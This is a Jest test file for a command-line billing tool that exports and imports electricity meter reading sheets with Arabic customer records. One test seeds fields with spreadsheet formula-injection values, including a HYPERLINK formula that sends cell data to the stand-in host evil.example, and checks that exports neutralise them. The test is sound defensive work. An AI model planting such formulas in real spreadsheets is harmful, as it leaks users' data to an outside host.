import { spawn } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseDelimited } from 'papaparse';
import type { ReadingExportRow } from '@kahraba/billing-domain';
import { SqlDatabase } from '@kahraba/persistence';
import { createTestDatabase } from '@kahraba/persistence/testing';
import { readReadingSheet, type SheetFormat, writeReadingSheet } from './reading-sheet-file';
import { billing } from './testing/run-billing';

const FIXTURES = join(__dirname, '../../../libs/billing-domain/test-fixtures/sheets');
const BILLING = join(__dirname, '..', 'dist', 'main.js');

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';

describe('billing readings export and import', () => {
  let env: NodeJS.ProcessEnv;
  let db: SqlDatabase;
  let folder: string;

  beforeAll(async () => {
    const url = await createTestDatabase();
    env = { DATABASE_URL: url, DATA_DIR: '' };
    db = new SqlDatabase(url, 1);
    await db.query(
      `INSERT INTO kwh_customers (system, customer_number, name, box, ampere, previous_kwh, current_kwh, month, record_key)
       VALUES ('mahmoud-kwh', 1000, 'أحمد "أبو علي"، الحاج', '3', 5, 100, 150, to_char(now(), 'YYYY-MM'), ''),
              ('mahmoud-kwh', 1001, 'سامي', NULL, 10, 200, 0, to_char(now(), 'YYYY-MM'), ''),
              ('baydawi-kwh', 1000, 'من مجموعة أخرى', '1', 5, 0, 0, to_char(now(), 'YYYY-MM'), '')`,
    );
    // The generic kWh group holds customers whose typed text a spreadsheet would run.
    await db.query(
      `INSERT INTO kwh_customers (system, customer_number, name, box, address, ampere, previous_kwh, current_kwh, month, record_key)
       VALUES ('kwh', 1000, $1, '-عميل', '+961 3 123456', 5, 100, 150.5, to_char(now(), 'YYYY-MM'), ''),
              ('kwh', 1001, '@SUM(A1:A9)', NULL, '=1+1', 10, 0, 0, to_char(now(), 'YYYY-MM'), '')`,
      [HYPERLINK],
    );
    folder = mkdtempSync(join(tmpdir(), 'readings-'));
  });
  afterAll(async () => {
    await db.close();
    rmSync(folder, { recursive: true, force: true });
  });

  const readings = () =>
    db.query<{ customer_number: number; previous_kwh: string; current_kwh: string; total_amount: string }>(
      `SELECT customer_number, previous_kwh::text, current_kwh::text, total_amount::text
       FROM kwh_customers WHERE system = 'mahmoud-kwh' ORDER BY customer_number`,
    );

  it.each<SheetFormat>(['tsv', 'csv', 'xlsx'])(
    'exports the sheet as %s, and imports it back filled: a dry run writes nothing, the import records it',
    async (format) => {
      const file = join(folder, `mahmoud.${format}`);
      const exported = await billing(
        ['readings', 'export', '--system', 'mahmoud-kwh', '--format', format, '--out', file],
        env,
      );
      expect(exported).toMatchObject({
        code: 0,
        stdout: `صُدّرت ورقة قراءات عميلين من كيلوواط محمود إلى ${file}\n`,
      });

      const sheet = readReadingSheet(await readFile(file), file).readings;
      expect(sheet.map((row) => [row.customerNumber, row.name, row.newCurrentKwh])).toEqual([
        ['1000', 'أحمد "أبو علي"، الحاج', ''],
        ['1001', 'سامي', ''],
      ]);
      // The operator types the new readings into newCurrentKwh: 50 and 20 kWh more than on file.
      const filled: ReadingExportRow[] = sheet.map((row) => ({
        id: row.id!,
        customerNumber: Number(row.customerNumber),
        name: row.name!,
        box: row.box || null,
        address: row.address || null,
        ampere: Number(row.ampere),
        previousKwh: Number(row.previousKwh),
        currentKwh: Number(row.currentKwh),
        previousEstimated: row.previousEstimated === 'نعم',
        currentEstimated: row.currentEstimated === 'نعم',
        newCurrentKwh:
          Math.max(Number(row.currentKwh), Number(row.previousKwh)) +
          (row.customerNumber === '1000' ? 50 : 20),
      }));
      await writeFile(file, await writeReadingSheet(filled, format));

      const before = await readings();
      const dry = await billing(
        ['readings', 'import', '--system', 'mahmoud-kwh', '--file', file, '--dry-run', '--json'],
        env,
      );
      expect(dry.code).toBe(0);
      expect(JSON.parse(dry.stdout)).toMatchObject({ updated: 2, skipped: [], rows: expect.any(Array) });
      expect(await readings()).toEqual(before);

      const run = await billing(
        ['readings', 'import', '--system', 'mahmoud-kwh', '--file', file, '--json'],
        env,
      );
      expect(run.code).toBe(0);
      expect(run.stderr).toBe('');
      // #1000 was read this month (and #1001 by the format before): the sheet shifts the reading
      // and says so (docs/readings-in-a-month.md).
      expect(JSON.parse(run.stdout)).toEqual({
        message: 'تم تحديث سجلين',
        updated: 2,
        skipped: [],
        warnings: expect.arrayContaining([
          expect.objectContaining({
            line: 2,
            customerNumber: 1000,
            reason: expect.stringContaining('فتصبح القراءة السابقة ويُرحَّل استهلاك 50 كيلوواط'),
          }),
        ]),
        database: expect.any(String),
      });
      const after = await readings();
      expect(after.map((row) => Number(row.current_kwh) - Number(row.previous_kwh))).toEqual([50, 20]);
      expect(after.map((row) => row.total_amount)).toEqual(['50.00', '20.00']);
    },
  );

  it.each<SheetFormat>(['csv', 'tsv'])(
    'writes the %s sheet as data: opened by a CSV parser, no cell begins with a formula character and numbers stay numbers',
    async (format) => {
      const file = join(folder, `kwh.${format}`);
      const exported = await billing(['readings', 'export', '--system', 'kwh', '--out', file], env);
      expect(exported.code).toBe(0);

      const { data, errors } = parseDelimited<(string | number | null)[]>(
        (await readFile(file, 'utf8')).replace(/^\uFEFF/, ''),
        { delimiter: format === 'csv' ? ',' : '\t', dynamicTyping: true, skipEmptyLines: true },
      );
      expect(errors).toEqual([]);
      expect(data.slice(1).map((row) => row.slice(1))).toEqual([
        [1000, `'${HYPERLINK}`, "'-عميل", "'+961 3 123456", 5, 100, null, 150.5, null, null],
        [1001, "'@SUM(A1:A9)", null, "'=1+1", 10, 0, null, 0, null, null],
      ]);
      for (const cell of data.flat()) if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/);

      // Filled and imported back, each row still finds its customer (by id).
      const sheet = readReadingSheet(await readFile(file), file).readings;
      const filled: ReadingExportRow[] = sheet.map((row) => ({
        id: row.id!,
        customerNumber: Number(row.customerNumber),
        name: row.name!,
        box: row.box || null,
        address: row.address || null,
        ampere: Number(row.ampere),
        previousKwh: Number(row.previousKwh),
        currentKwh: Number(row.currentKwh),
        previousEstimated: row.previousEstimated === 'نعم',
        currentEstimated: row.currentEstimated === 'نعم',
        newCurrentKwh: 200,
      }));
      await writeFile(file, await writeReadingSheet(filled, format));
      const dry = await billing(
        ['readings', 'import', '--system', 'kwh', '--file', file, '--dry-run', '--json'],
        env,
      );
      expect(dry.code).toBe(0);
      expect(JSON.parse(dry.stdout)).toMatchObject({ updated: 2, skipped: [] });
    },
  );

  it('prints the refused rows first, each with its sheet row number and customer, in Arabic', async () => {
    const file = join(folder, 'bad.csv');
    await writeFile(file, '\uFEFFcustomerNumber,newCurrentKwh\r\n#1000,1\r\n#9999,5\r\n');
    const run = await billing(['readings', 'import', '--system', 'mahmoud-kwh', '--file', file], env);
    expect(run.code).toBe(0);
    expect(run.stdout.split('\n').slice(0, 3)).toEqual([
      'لم يتم تحديث أي قراءة',
      expect.stringMatching(
        /^مرفوض: الصف 2 · #1000 أحمد "أبو علي"، الحاج العلبة 3: القراءة الجديدة \(1\) أقل من القراءة التي تسبقها \(\d+\)$/,
      ),
      'مرفوض: الصف 3 · #9999: لا يوجد عميل بالرقم #9999',
    ]);
  });

  // The same files as the web's test (libs/billing-domain/test-fixtures/sheets),
  // the same row numbers in the refusals: row 4 (customer 1001, below its previous reading) and row
  // 5 (an unknown customer); the blank row 3 is no row at all.
  it.each([
    'readings.xlsx',
    'readings.ods',
    'readings-windows-1256.csv',
    'readings-utf8-bom.csv',
    'readings.tsv',
  ])('imports %s with the refusals on the rows the spreadsheet shows', async (name) => {
    // The readings the fixture was written against (the tests above moved them on).
    await db.query(
      `UPDATE kwh_customers SET previous_kwh = CASE customer_number WHEN 1000 THEN 100 ELSE 200 END,
                current_kwh = CASE customer_number WHEN 1000 THEN 150 ELSE 0 END
          WHERE system = 'mahmoud-kwh'`,
    );
    const run = await billing(
      [
        'readings',
        'import',
        '--system',
        'mahmoud-kwh',
        '--file',
        join(FIXTURES, name),
        '--dry-run',
        '--json',
      ],
      env,
    );
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    const summary = JSON.parse(run.stdout) as { skipped: unknown[]; rows: { line: number }[] };
    expect(summary.rows.map((row) => row.line)).toEqual([2]);
    expect(summary.skipped).toEqual([
      {
        line: 4,
        reason: 'القراءة الجديدة (150) أقل من القراءة التي تسبقها (200)',
        customerNumber: 1001,
        name: 'سامي',
        box: null,
      },
      { line: 5, reason: 'لا يوجد عميل بالرقم #1005', customerNumber: 1005, name: 'زبون مجهول', box: '9' },
    ]);
  });

  it('writes the refused rows, as written and with their reasons, to a CSV to fix (--refused-out)', async () => {
    const out = join(folder, 'to-fix.csv');
    const run = await billing(
      [
        'readings',
        'import',
        '--system',
        'mahmoud-kwh',
        '--file',
        join(FIXTURES, 'readings.ods'),
        '--dry-run',
        '--refused-out',
        out,
      ],
      env,
    );
    expect(run).toMatchObject({ code: 0, stderr: '' });
    const { data } = parseDelimited<string[]>((await readFile(out, 'utf8')).replace(/^\uFEFF/, ''), {
      skipEmptyLines: true,
    });
    expect(data).toEqual([
      ['customerNumber', 'name', 'box', 'previousKwh', 'currentKwh', 'newCurrentKwh', 'السبب'],
      // Recorded, worth a look: the sheet shifts this month's reading (docs/readings-in-a-month.md).
      [
        '1000',
        'أحمد',
        '3',
        '100',
        '150',
        '200',
        'أحمد "أبو علي"، الحاج (#1000): قُرئ هذا الشهر 150، فتصبح القراءة السابقة ويُرحَّل استهلاك 50 كيلوواط (من 100 إلى 150) إلى الرصيد السابق',
      ],
      ['1001', 'سامي', '', '200', '0', '150', 'القراءة الجديدة (150) أقل من القراءة التي تسبقها (200)'],
      ['1005', 'زبون مجهول', '9', '0', '0', '10', 'لا يوجد عميل بالرقم #1005'],
    ]);
  });

  it('refuses a sheet whose header lacks the reading column, and an empty file, in Arabic', async () => {
    const foreign = join(folder, 'foreign.csv');
    await writeFile(foreign, 'foo,bar\n1,2\n');
    const run = await billing(['readings', 'import', '--system', 'mahmoud-kwh', '--file', foreign], env);
    expect(run).toMatchObject({
      code: 1,
      stdout: '',
      stderr: 'خطأ: سطر العناوين لا يحتوي على عمود القراءة الجديدة: newCurrentKwh أو «القراءة الجديدة»\n',
    });
    const empty = join(folder, 'empty.tsv');
    await writeFile(empty, '');
    const none = await billing(['readings', 'import', '--system', 'mahmoud-kwh', '--file', empty], env);
    expect(none).toMatchObject({ code: 1, stderr: 'خطأ: الملف أو النص الملصق فارغ\n' });
  });

  it('answers a missing file, an unknown format and a group that is not metered with one Arabic line', async () => {
    const missing = await billing(
      ['readings', 'import', '--system', 'mahmoud-kwh', '--file', join(folder, 'nowhere.xlsx')],
      env,
    );
    expect(missing).toMatchObject({
      code: 2,
      stderr: `خطأ: الملف «${join(folder, 'nowhere.xlsx')}» غير موجود\n`,
    });
    const wrongFile = await billing(
      ['readings', 'import', '--system', 'mahmoud-kwh', '--file', 'readings.pdf'],
      env,
    );
    expect(wrongFile).toMatchObject({
      code: 2,
      stderr: 'خطأ: لا يمكن قراءة الملف «readings.pdf»: الصيغ المقبولة xlsx وods وcsv وtsv\n',
    });
    const broken = join(folder, 'broken.ods');
    await writeFile(broken, 'not a workbook');
    const unreadable = await billing(
      ['readings', 'import', '--system', 'mahmoud-kwh', '--file', broken],
      env,
    );
    expect(unreadable).toMatchObject({ code: 1, stderr: 'خطأ: الملف ليس ملف ods صالحاً أو أنه تالف\n' });
    const flat = await billing(['readings', 'export', '--system', 'ampere'], env);
    expect(flat.code).toBe(2);
    expect(flat.stderr).toMatch(
      /^خطأ: «ampere» \(.+\) ليس مجموعة عدادات: القراءات لمجموعات الكيلوواط فقط\n$/,
    );
    const unknown = await billing(
      ['readings', 'import', '--system', 'nowhere', '--file', join(FIXTURES, 'readings.tsv'), '--json'],
      env,
    );
    expect(unknown.code).toBe(1);
    expect(JSON.parse(unknown.stderr)).toEqual({
      error: 'نظام الفوترة غير معروف',
      code: 'UNKNOWN_BILLING_SYSTEM',
      database: expect.any(String),
    });
    const nowhere = join(folder, 'no-such-folder', 'out.csv');
    const badOut = await billing(['readings', 'export', '--system', 'mahmoud-kwh', '--out', nowhere], env);
    expect(badOut).toMatchObject({ code: 1, stderr: `خطأ: الملف «${nowhere}» غير موجود\n` });
    const noSystem = await billing(['readings', 'export'], env);
    expect(noSystem).toMatchObject({ code: 2, stderr: 'خطأ: الخيار --system مطلوب\n' });
  });

  it('wants --out for an xlsx export to a terminal', async () => {
    // `script` gives the command a terminal for its standard output.
    const run = await new Promise<{ code: number; output: string }>((resolve) => {
      const child = spawn(
        'script',
        [
          '-qec',
          `${process.execPath} ${BILLING} readings export --system mahmoud-kwh --format xlsx`,
          '/dev/null',
        ],
        { env: { ...process.env, ...env } },
      );
      let output = '';
      child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
      child.on('close', (code) => resolve({ code: code ?? -1, output }));
    });
    expect(run.code).toBe(2);
    expect(run.output.trim()).toBe(
      'خطأ: ملف xlsx لا يُكتب على الشاشة: حدّد الملف بالخيار --out، مثل --out readings.xlsx',
    );
  });

  it('writes the TSV sheet to standard output without --out', async () => {
    const run = await billing(['readings', 'export', '--system', 'baydawi-kwh'], env);
    expect(run.code).toBe(0);
    expect(run.stdout.split('\n')[0]).toBe(
      'id\tcustomerNumber\tname\tbox\taddress\tampere\tpreviousKwh\tpreviousEstimated\tcurrentKwh\tcurrentEstimated\tnewCurrentKwh',
    );
    expect(run.stdout).toContain('من مجموعة أخرى');
  });
});
